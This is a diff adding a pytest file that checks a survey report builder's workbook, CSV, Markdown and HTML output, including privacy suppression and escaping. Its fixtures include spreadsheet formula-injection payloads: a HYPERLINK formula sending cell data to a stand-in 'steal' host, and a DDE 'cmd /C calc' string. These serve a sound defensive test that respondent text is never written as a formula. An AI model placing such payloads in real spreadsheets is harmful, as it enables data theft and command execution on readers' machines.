@@ -1,0 +1,324 @@
+"""`survey report`: the workbook, CSV, Markdown, page and figures built from a processed folder."""
+
+from __future__ import annotations
+
+import json
+import sys
+import zipfile
+from html.parser import HTMLParser
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from analysis.report import build_report, load_report_study, publishable, registry
+from analysis.report.registry import ReportTable
+from analysis.report.writers import HEADER_ROW
+from analysis.schema import TABLES, conform
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"詳細")'
+
+
+def write_processed_year(folder: Path, year: int, levels: list[str | None]) -> Path:
+    """A processed folder as `survey ingest` writes it, from hand-made frames."""
+    folder.mkdir(parents=True, exist_ok=True)
+    respondents = [{"respondent_id": f"U{i:02d}", "group": "user", "fiscal_year": year, "industry": "manufacturing"}
+                   for i in range(1, 11)]
+    respondents += [{"respondent_id": "V01", "group": "vendor", "fiscal_year": year, "description": "教育サービス"},
+                    {"respondent_id": "V02", "group": "vendor", "fiscal_year": year, "description": HYPERLINK}]
+    respondents += [{"respondent_id": f"I{i:02d}", "group": "investor", "fiscal_year": year, "n_interviewees": 1}
+                    for i in range(1, 9)]
+    statements = [
+        {"statement_id": "S1", "respondent_id": "V01", "respondent_group": "vendor", "section": 1, "text": "資格"},
+        {"statement_id": "S2", "respondent_id": "V02", "respondent_group": "vendor", "section": 2, "text": "体制"},
+        {"statement_id": "S3", "respondent_id": "U01", "respondent_group": "user", "section": 1, "text": HYPERLINK},
+        {"statement_id": "S4", "respondent_id": "U02", "respondent_group": "user", "section": 1,
+         "text": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"statement_id": "S5", "respondent_id": "U03", "respondent_group": "user", "section": 2, "text": "-10%削減"},
+    ]
+    for row in statements:
+        row.update(fiscal_year=year, category_id=f"u0{row['section']}-01")
+    disclosures = []
+    for company, region, items in [("O1", "overseas", (True, True)), ("O2", "overseas", (True, year > 2020)),
+                                   ("D1", "domestic", (True, False)), ("D2", "domestic", (False, False))]:
+        for item, disclosed in zip(("governance_structure", "mitigation_measures"), items, strict=True):
+            disclosures.append({"company_id": company, "fiscal_year": year, "region": region,
+                                "country": "US" if region == "overseas" else "JP", "item": item,
+                                "disclosed": disclosed})
+    meetings = [{"table": "2.3", "body": "タスクフォース", "round": r, "date": f"{year}-10-0{r}", "topics": "+議題"}
+                for r in (1, 2)]
+    literature = [{"table": "3.2", "region": "米国", "title": "NICE", "issuer": "NIST", "published": "2020-11"}]
+    frames = {"respondents": respondents, "statements": statements, "disclosures": disclosures,
+              "meetings": meetings, "literature": literature}
+    for name in TABLES:
+        frame = conform(name, pd.DataFrame(frames.get(name, [])))
+        frame.to_csv(folder / f"{name}.csv", index=False, lineterminator="\n")
+        frame.to_parquet(folder / f"{name}.parquet", index=False)
+    pd.DataFrame([{"severity": "error", "file": "株式会社サンプル_U01.xlsx", "sheet": "回答", "cell": "C5",
+                   "message": "expected 1-5; got '=1+1'"}]).to_csv(folder / "issues.csv", index=False)
+    pd.DataFrame({"respondent_id": [f"U{i:02d}" for i in range(1, 11)], "fiscal_year": year,
+                  "level": levels}).to_csv(folder / "maturity.csv", index=False)
+    (folder / "ingest.json").write_text(json.dumps({"edition": "fy2021", "fiscal_year": year}), encoding="utf-8")
+    return folder
+
+
+def _statements_builder(study, ctx):
+    frame = study.statements[["statement_id", "respondent_id", "section", "text"]].reset_index(drop=True)
+    per_section = frame.groupby("section").size().rename("n").reset_index()
+    per_section["n"] = per_section["n"].astype("Int64")
+    return [ReportTable("test_statements", "発言", "Statements", frame, section="statements",
+                        respondent_columns=("respondent_id",)),
+            ReportTable("test_statement_counts", "節ごとの発言数", "Statements per section", per_section,
+                        section="statements", counts=("n",))]
+
+
+@pytest.fixture
+def own_builders(monkeypatch):
+    """The builders of this module's files plus a statements table (other modules' builders are
+    tested in their own files and in test_every_registered_builder_on_a_small_year)."""
+    registry.builders()  # import every builder module once
+    mine = {name: entry for name, entry in registry._REGISTRY.items()
+            if name.startswith(("records.", "appendix.", "year_over_year."))}
+    mine["test.statements"] = (35, _statements_builder)
+    monkeypatch.setattr(registry, "_REGISTRY", mine)
+
+
+@pytest.fixture(scope="module")
+def years(tmp_path_factory):
+    root = tmp_path_factory.mktemp("processed")
+    previous = write_processed_year(root / "2020", 2020, ["A", "A", "B", "B", "B", "B", "B", "C", "C", "C"])
+    current = write_processed_year(root / "2021", 2021, ["A", "A", "A", "B", "B", "B", "B", "B", "C", None])
+    return previous, current
+
+
+def _csv_tables(folder: Path) -> list[str]:
+    return sorted(p.stem for p in (folder / "tables").glob("*.csv"))
+
+
+def _contents(book, folder: Path) -> dict[str, str]:
+    """Table name -> sheet name, from the contents sheet; checks every table has its sheet."""
+    linked = {}
+    for row in book.worksheets[0].iter_rows(min_row=HEADER_ROW + 1):
+        sheet, csv = row[1].value, row[5].value
+        assert row[1].hyperlink.location == f"'{sheet}'!A1"
+        assert (folder / csv).is_file()
+        linked[Path(csv).stem] = sheet
+    assert sorted(linked) == _csv_tables(folder)
+    assert sorted(linked.values()) == sorted(book.sheetnames[1:])
+    return linked
+
+
+def _cells(path: Path) -> dict[str, list[list]]:
+    book = openpyxl.load_workbook(path)
+    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book}
+
+
+def test_workbook_has_a_sheet_for_every_table_with_typed_numbers(own_builders, years, tmp_path):
+    previous, current = years
+    out = build_report(current, tmp_path / "report", previous_dir=previous)
+    book = openpyxl.load_workbook(out / "tables.xlsx")
+    assert book.sheetnames[0] == "目次"
+    linked = _contents(book, out)
+    for name in ("table_1_1", "table_2_2", "table_2_3", "table_3_2", "yoy_maturity_levels",
+                 "yoy_disclosure_coverage", "appendix_tables", "appendix_problems", "test_statements"):
+        assert name in linked
+
+    items = book["table_1_1"]
+    headers = ["調査項目(大項目)", "調査項目(小項目)", "実施内容", "調査対象", "対象数"]
+    assert [c.value for c in items[HEADER_ROW]] == headers
+    assert items.freeze_panes == f"A{HEADER_ROW + 1}"
+    company_survey = next(r for r in items.iter_rows(min_row=HEADER_ROW + 1) if r[1].value.startswith("1.2 "))
+    assert company_survey[2].value.startswith("ユーザ系企業10社・ベンダ系企業2社")
+    assert (company_survey[4].value, company_survey[4].data_type) == (12, "n")
+
+    levels = book["yoy_maturity_levels"]
+    assert [c.value for c in levels[HEADER_ROW]][:3] == ["成熟度レベル", "2020年度 件数", "2020年度 割合"]
+    a_row = [c for c in levels[HEADER_ROW + 1]]
+    assert (a_row[1].value, a_row[1].data_type) == (2, "n")
+    assert (a_row[2].value, a_row[2].number_format) == (0.2, "0.0%")
+    assert levels.column_dimensions["A"].width >= 10
+
+
+def test_respondent_text_is_never_a_formula(own_builders, years, tmp_path):
+    _, current = years
+    out = build_report(current, tmp_path / "report")
+    book = openpyxl.load_workbook(out / "tables.xlsx")
+    cells = [c for ws in book for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert HYPERLINK in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts and "-10%削減" in texts
+    with zipfile.ZipFile(out / "tables.xlsx") as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, name
+    statements = (out / "tables" / "test_statements.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in statements and "'@SUM" in statements and "'-10%削減" in statements
+    assert "\n=" not in statements and ",=" not in statements
+    assert "'=HYPERLINK(" in (out / "tables" / "test_statements.md").read_text(encoding="utf-8")
+    assert "'+議題" in (out / "tables" / "table_2_3.csv").read_text(encoding="utf-8")
+
+
+def test_two_builds_give_identical_csv_markdown_and_cell_values(own_builders, years, tmp_path):
+    previous, current = years
+    one = build_report(current, tmp_path / "one", previous_dir=previous)
+    two = build_report(current, tmp_path / "two", previous_dir=previous)
+    files = sorted(p.relative_to(one) for p in one.rglob("*") if p.suffix in (".csv", ".md", ".html"))
+    assert len(files) > 20
+    for relative in files:
+        assert (one / relative).read_bytes() == (two / relative).read_bytes(), relative
+    assert sorted(p.relative_to(two) for p in two.rglob("*") if p.suffix in (".csv", ".md", ".html")) == files
+    assert _cells(one / "tables.xlsx") == _cells(two / "tables.xlsx")
+
+
+class _References(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.refs, self.ids = [], set()
+
+    def handle_starttag(self, tag, attrs):
+        for key, value in attrs:
+            if key in ("href", "src"):
+                self.refs.append(value)
+            elif key == "id":
+                self.ids.add(value)
+
+
+def _check_page(folder: Path) -> list[str]:
+    parser = _References()
+    parser.feed((folder / "index.html").read_text(encoding="utf-8"))
+    for ref in parser.refs:
+        assert "://" not in ref and not ref.startswith(("/", "\\")), ref
+        if ref.startswith("#"):
+            assert ref[1:] in parser.ids, ref
+        else:
+            assert (folder / ref).is_file(), ref
+    return parser.refs
+
+
+def test_index_html_references_only_files_that_exist(own_builders, years, tmp_path):
+    previous, current = years
+    out = build_report(current, tmp_path / "report", previous_dir=previous)
+    refs = _check_page(out)
+    assert "tables.xlsx" in refs
+    assert {f"tables/{name}.csv" for name in _csv_tables(out)} <= set(refs)
+
+
+def test_publish_hides_small_cells_and_respondent_ids(own_builders, years, tmp_path):
+    pytest.importorskip("analysis.suppression")
+    previous, current = years
+    out = build_report(current, tmp_path / "report", publish=True, previous_dir=previous)
+    everything = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*") if p.suffix in (".csv", ".md", ".html"))
+    everything += json.dumps(_cells(out / "tables.xlsx"), ensure_ascii=False, default=str)
+    for respondent in ("U01", "U02", "U03", "V01", "V02"):
+        assert respondent not in everything
+    assert "株式会社サンプル" not in everything  # file names of the ingest problems stay internal
+    assert "appendix_problems" not in _csv_tables(out)
+
+    levels = pd.read_csv(out / "tables" / "yoy_maturity_levels.csv", dtype="str", keep_default_na=False)
+    counts = levels[["2020年度 件数", "2021年度 件数"]]
+    assert counts.iloc[1].tolist() == ["5", "5"]  # five B companies in both years: shown
+    assert counts.iloc[0].tolist() == ["x", "x"]  # two and three A companies: hidden
+    assert not counts.isin(["1", "2", "3", "4"]).any().any()
+    assert "change_n" not in levels and "増減(件)" not in levels
+    per_section = pd.read_csv(out / "tables" / "test_statement_counts.csv", dtype="str")
+    assert per_section["件数"].tolist() == ["x", "x"]
+    assert "x は秘匿したセル" in (out / "tables" / "yoy_maturity_levels.md").read_text(encoding="utf-8")
+    assert "公開用" in (out / "index.html").read_text(encoding="utf-8")
+
+
+def test_publish_fails_closed_without_suppression(own_builders, years, tmp_path, monkeypatch):
+    _, current = years
+    out = build_report(current, tmp_path / "report")
+    before = (out / "index.html").read_bytes()
+    monkeypatch.setitem(sys.modules, "analysis.suppression", None)  # import fails
+    with pytest.raises(RuntimeError, match="suppression"):
+        build_report(current, out, publish=True)
+    assert (out / "index.html").read_bytes() == before
+
+
+def test_publishable_calls_suppression_with_each_tables_columns(monkeypatch):
+    calls = []
+
+    def fake_suppress(frame, count_columns, k=5, percent_columns=()):
+        calls.append((list(count_columns), k, list(percent_columns)))
+        return frame.assign(n=pd.array([None, 9], dtype="Int64"), share=[None, 0.9])
+
+    monkeypatch.setitem(sys.modules, "analysis.suppression", type(sys)("analysis.suppression"))
+    monkeypatch.setattr(sys.modules["analysis.suppression"], "suppress_counts", fake_suppress, raising=False)
+    frame = pd.DataFrame({"respondent_id": ["U01", "U02"], "n": pd.array([1, 9], dtype="Int64"), "share": [0.1, 0.9]})
+    table = ReportTable("t", "t", "t", frame, counts=("n",), percents=("share",), respondent_columns=("respondent_id",),
+                        note_ja="注")
+    (published,) = publishable([table], k=7, marker="x", notes=("秘匿", "hidden"))
+    assert calls == [(["n"], 7, ["share"])]
+    assert list(published.frame.columns) == ["n", "share"]
+    assert published.frame["n"].tolist() == ["x", 9] and published.frame["share"].tolist() == ["x", 0.9]
+    assert (published.note_ja, published.note_en) == ("注 秘匿", "hidden")
+    assert published.respondent_columns == ()
+
+
+def test_a_failing_builder_is_listed_and_the_rest_still_written(own_builders, years, tmp_path):
+    def broken(study, ctx):
+        raise KeyError("no such column")
+
+    registry._REGISTRY["test.broken"] = (50, broken)
+    _, current = years
+    with pytest.warns(RuntimeWarning, match="test.broken"):
+        out = build_report(current, tmp_path / "report")
+    failures = pd.read_csv(out / "tables" / "appendix_failures.csv", dtype="str")
+    assert failures.values.tolist() == [["test.broken", "KeyError: 'no such column'"]]
+    assert "table_1_1" in _csv_tables(out)
+
+
+def test_an_interrupted_build_leaves_the_previous_report(own_builders, years, tmp_path, monkeypatch):
+    from analysis.report import writers
+
+    _, current = years
+    out = build_report(current, tmp_path / "report")
+    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
+
+    def interrupted(*args, **kwargs):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(writers, "write_workbook", interrupted)
+    with pytest.raises(KeyboardInterrupt):
+        build_report(current, out, lang="en")
+    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
+    assert [p.name for p in tmp_path.iterdir()] == ["report"]  # no staging folder left behind
+
+
+def test_derived_tables_are_loaded_beside_the_tidy_ones(years):
+    _, current = years
+    study = load_report_study(current)
+    assert set(TABLES) <= set(study.tables)
+    assert len(study.tables["maturity"]) == 10
+    assert "issues" not in study.tables and len(study.issues) == 1
+
+
+def test_survey_report_command_in_english(own_builders, years, tmp_path):
+    from analysis.cli import main
+
+    previous, current = years
+    out = tmp_path / "report"
+    assert main(["report", str(current), "--out", str(out), "--lang", "en", "--previous", str(previous)]) == 0
+    book = openpyxl.load_workbook(out / "tables.xlsx")
+    assert book.sheetnames[0] == "Contents"
+    assert [c.value for c in book["table_2_3"][HEADER_ROW]] == ["Meeting", "Date", "Main topics"]
+    assert '<html lang="en">' in (out / "index.html").read_text(encoding="utf-8")
+
+
+def test_every_registered_builder_on_a_small_year(years, tmp_path):
+    """The whole report as `survey run` builds it, every builder of every module included."""
+    previous, current = years
+    out = build_report(current, tmp_path / "report", previous_dir=previous)
+    assert not (out / "tables" / "appendix_failures.csv").exists(), \
+        (out / "tables" / "appendix_failures.csv").read_text(encoding="utf-8")
+    _check_page(out)
+    book = openpyxl.load_workbook(out / "tables.xlsx")
+    _contents(book, out)
+    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    again = build_report(current, tmp_path / "again", previous_dir=previous)
+    for path in sorted(out.rglob("*")):
+        if path.suffix in (".csv", ".md", ".html"):
+            assert path.read_bytes() == (again / path.relative_to(out)).read_bytes(), path
